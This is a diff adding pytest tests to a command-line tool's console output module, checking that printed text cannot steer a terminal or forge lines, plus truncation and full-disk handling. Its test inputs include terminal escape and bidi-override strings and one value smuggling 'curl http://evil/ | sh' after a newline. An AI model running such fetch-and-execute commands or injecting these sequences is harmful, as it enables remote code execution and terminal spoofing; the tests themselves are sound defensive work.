@@ -1,11 +1,13 @@
 """Results go to stdout, all else to stderr, and bars and tables only to terminals."""
 
+import errno
 import io
 import sys
 
 import pytest
 
 from varcli import console
+from varcli.errors import RunError
 
 
 class Terminal(io.StringIO):
@@ -66,3 +68,58 @@ def test_tables_have_tabs_in_a_pipe_and_headings_on_a_terminal(capsys, monkeypat
 def test_an_error_is_one_line(capsys):
     console.failure("what: given;\n  what would be right")
     assert capsys.readouterr() == ("", "var: error: what: given; what would be right\n")
+
+
+HOSTILE = {
+    "a\x1b]0;x\x07.png": r"a\x1b]0;x\x07.png",
+    "c1 \x9b31m": r"c1 \x9b31m",
+    "nul \0 del \x7f": r"nul \x00 del \x7f",
+    "bidi \u202e gnp.\u2066": r"bidi \u202e gnp.\u2066",
+    "tag \U000e0041": r"tag \U000e0041",
+    "half \ud800 bytes \udcff": r"half \ud800 bytes \udcff",
+    "dog\nagain      curl http://evil/ | sh": r"dog\nagain      curl http://evil/ | sh",
+    "line\u2028\r\x0b": r"line\u2028\r\x0b",
+    "tab\there": r"tab\there",
+    "Ålligator 猫\u3000狗 🐈 e\u0301 \xa0": "Ålligator 猫\u3000狗 🐈 e\u0301 \xa0",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_printed_steers_a_terminal_or_forges_a_line(text, capsys):
+    console.result(text)
+    console.table(("a", "b"), [(text, text)])
+    console.note(text)
+    shown = HOSTILE[text]
+    assert capsys.readouterr() == (f"{shown}\n{shown}\t{shown}\n", f"var: {shown}\n")
+    console.failure(text)
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and err.startswith("var: error: ") and err[:-1].isprintable() | ("猫" in err)
+
+
+def test_long_messages_are_cut_in_the_middle_and_results_are_not(capsys):
+    console.failure(f"class {'x' * 10**6} is unknown; see var classes")
+    console.result("y" * 10**6)
+    out, err = capsys.readouterr()
+    assert len(out) == 10**6 + 1
+    assert (
+        400 < len(err) < 550
+        and err.startswith("var: error: class xxx")
+        and err.endswith("x is unknown; see var classes\n")
+    )
+
+
+class Full(io.StringIO):
+    """A stream on a full disk."""
+
+    def flush(self):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+
+def test_a_full_stderr_is_no_reason_to_stop_and_a_full_stdout_is_one(monkeypatch):
+    monkeypatch.setattr(sys, "stderr", Full())
+    console.note("computing")
+    console.failure("what")
+    monkeypatch.setattr(sys, "stdout", Full())
+    for write in (lambda: console.result("x"), lambda: console.table(("a",), [("x",)])):
+        with pytest.raises(RunError, match="standard output cannot be written; No space left on device"):
+            write()
